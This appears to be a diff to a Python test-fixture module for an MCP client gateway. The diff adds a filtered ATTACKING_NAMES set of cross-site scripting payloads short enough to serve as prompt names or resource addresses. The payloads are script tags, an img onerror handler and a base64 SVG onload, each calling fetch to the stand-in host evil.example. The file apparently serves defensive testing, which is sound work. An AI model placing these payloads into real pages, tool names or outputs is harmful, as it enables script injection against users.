@@ -5,6 +5,8 @@ from __future__ import annotations
 import base64
 from typing import Final
 
+from gateway.tools.mcp_client.result_text import LONGEST_NAME
+
 RUN: Final = "window.__owned=1;top.__owned=1;fetch('https://evil.example/')"
 IMAGE: Final = f'<img src="https://evil.example/i.png" onerror="{RUN}">'
 SVG: Final = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()).decode()
@@ -44,3 +46,5 @@ CORPUS: Final = (
     f"```<script>{RUN}</script>\n{IMAGE}\n```",
     f'````"onload={RUN}\nx\n````',
 )
+ATTACKING_NAMES: Final = tuple(text for text in CORPUS if len(text) <= LONGEST_NAME and text.isprintable())
+"""Those of them that can be the name of a prompt or the address of a resource."""
